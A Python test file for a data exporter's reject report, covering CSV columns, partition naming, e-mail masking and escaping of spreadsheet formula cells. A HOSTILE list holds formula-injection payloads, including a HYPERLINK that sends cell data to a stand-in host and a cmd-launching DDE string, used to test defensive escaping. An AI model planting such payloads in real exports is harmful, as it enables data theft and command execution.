"""The reject report's columns, and how its rows read back in a run's details (CLI and API):
a row in a CDM partition names that partition; a row of a single file names none."""

from __future__ import annotations

import csv
import io

import pytest

from exporter.admin.views import RejectSample, RunDetails, details_json, summary
from exporter.core.planning import RejectedRow
from exporter.core.reject_report import (
    FORMULA_STARTS,
    REPORT_COLUMNS,
    RejectReport,
    spreadsheet_safe,
)
from exporter.model.runs import RunRecord

ONE = "ci/BlobExport/HighValue/2026/11/24/1433/HighValue_1.csv"
TWO = "ci/BlobExport/HighValue/2026/11/24/1433/HighValue_2.csv"


def written(*rejected: RejectedRow) -> list[list[str]]:
    out = io.StringIO()
    with RejectReport(out) as report:
        for row in rejected:
            report(row)
    assert report.count == len(rejected)
    return list(csv.reader(io.StringIO(out.getvalue(), newline="")))


def test_the_header_is_fixed_and_the_old_columns_keep_their_places() -> None:
    assert REPORT_COLUMNS == ("row", "line", "reason", "message", "partition")
    assert written() == [list(REPORT_COLUMNS)]  # also when nothing was rejected


def test_rows_name_their_partition_or_leave_it_empty() -> None:
    rows = written(
        RejectedRow(2, 2, "invalid_email", "no @ in 'x'", ONE),
        RejectedRow(101, 41, "ragged_row", "the row has 2 fields, the entity has 3", TWO),
        RejectedRow(5, 6, "missing_email", "the email field is empty"),  # a single file
    )
    assert rows[1:] == [
        ["2", "2", "invalid_email", "no @ in 'x'", ONE],
        ["101", "41", "ragged_row", "the row has 2 fields, the entity has 3", TWO],
        ["5", "6", "missing_email", "the email field is empty", ""],
    ]


def details(samples: dict[str, list[RejectSample]]) -> RunDetails:
    run = RunRecord(
        run_id="r1",
        destination="marketing",
        segment="HighValue",
        snapshot="ci/BlobExport/model.json#HighValue",
        etag="e",
        trigger="blob",
        rejected=sum(len(found) for found in samples.values()),
        reject_report="runs/r1/rejects.csv",
    )
    return RunDetails(run, [], samples=samples, report_blob=run.reject_report)


def test_run_details_show_the_partition_when_there_is_one() -> None:
    shown = details(
        {
            "invalid_email": [RejectSample(2, 2, "not valid: ann@example.com", ONE)],
            "missing_email": [RejectSample(5, 6, "the email field is empty")],
        }
    )
    text = summary(shown.run, shown.batches, samples=shown.samples)
    assert f"rejected invalid_email: row 2 (line 2 of {ONE}): not valid: " in text
    assert "ann@example.com" not in text
    assert "rejected missing_email: row 5 (line 6): the email field is empty" in text

    samples = details_json(shown)["rejects"]["samples"]
    assert samples["invalid_email"] == [
        {"row": 2, "line": 2, "partition": ONE, "message": "not valid: ***@example.com"}
    ]
    assert samples["missing_email"] == [
        {"row": 5, "line": 6, "message": "the email field is empty"}  # no partition: no key
    ]


# --- cells a spreadsheet would run ---------------------------------------------------------------

HOSTILE = (
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",  # noqa: RUF001  # a full-width equals sign: some spreadsheets take it for '='
)


@pytest.mark.parametrize("text", HOSTILE)
def test_text_cells_that_would_start_a_formula_get_a_single_quote_before_them(text: str) -> None:
    partition = f"{text}/HighValue_1.csv"
    (row,) = written(RejectedRow(7, 3, "ragged_row", text, partition))[1:]
    one_line = text.replace("\r", " ").replace("\n", " ")  # a line break in a cell: a space
    assert row == ["7", "3", "ragged_row", "'" + one_line, f"'{one_line}/HighValue_1.csv"]


def test_numbers_stay_numbers_and_safe_text_stays_as_it_is() -> None:
    out = io.StringIO()
    with RejectReport(out) as report:
        report(RejectedRow(12, 14, "invalid_email", "no @ in 'x' (a - b = c)", ONE))
    assert out.getvalue().splitlines()[1] == f"12,14,invalid_email,no @ in 'x' (a - b = c),{ONE}"


def test_escaping_is_idempotent() -> None:
    for text in HOSTILE:
        once = spreadsheet_safe(text)
        assert spreadsheet_safe(once) == once
        assert once[0] not in FORMULA_STARTS
    assert spreadsheet_safe("") == ""
    assert spreadsheet_safe("'=already") == "'=already"


def test_run_details_escape_samples_from_reports_written_before_the_escaping() -> None:
    shown = details(
        {
            "ragged_row": [
                RejectSample(3, 3, "=1+1 or ann@example.com", '=HYPERLINK("x")/p.csv'),
                RejectSample(4, 4, "@SUM(A1)", "'=already/escaped.csv"),
            ]
        }
    )
    first, second = details_json(shown)["rejects"]["samples"]["ragged_row"]
    assert first == {
        "row": 3,
        "line": 3,
        "partition": '\'=HYPERLINK("x")/p.csv',
        "message": "'=1+1 or ***@example.com",
    }
    assert (second["message"], second["partition"]) == ("'@SUM(A1)", "'=already/escaped.csv")
    text = summary(shown.run, shown.batches, samples=shown.samples)
    assert "row 3 (line 3 of '=HYPERLINK(\"x\")/p.csv): '=1+1 or ***@example.com" in text
    assert "ann@example.com" not in text


def test_a_report_lists_its_first_rows_and_then_says_it_stops() -> None:
    out = io.StringIO()
    report = RejectReport(out, max_rows=3)
    for row in range(1, 8):
        report(RejectedRow(row, row + 1, "invalid_email", "the email has no @"))
    assert report.count == 7  # every rejected row counted
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert [r[0] for r in rows[1:]] == ["1", "2", "3", "4"]
    assert rows[-1][2] == "report_truncated"
    assert "lists the first 3 rejected rows" in rows[-1][3]
